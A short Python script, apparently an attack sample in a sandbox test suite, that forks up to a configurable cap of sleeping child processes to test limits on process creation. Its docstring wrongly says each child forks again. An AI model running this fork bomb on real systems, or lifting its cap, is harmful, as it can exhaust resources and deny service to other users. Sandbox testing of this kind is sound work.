"""Fork bomb: children that sleep, as many as it can (capped at FORK_CAP, default 400, so that
the unsandboxed run stays harmless); each child forks too."""
import os
import time

from _attack import main


def attack() -> str:
    cap = int(os.environ.get("FORK_CAP", "400"))
    made = 0
    for _ in range(cap):
        if os.fork() == 0:
            time.sleep(60)
            os._exit(0)
        made += 1
    return f"{made} processes"


main(attack)
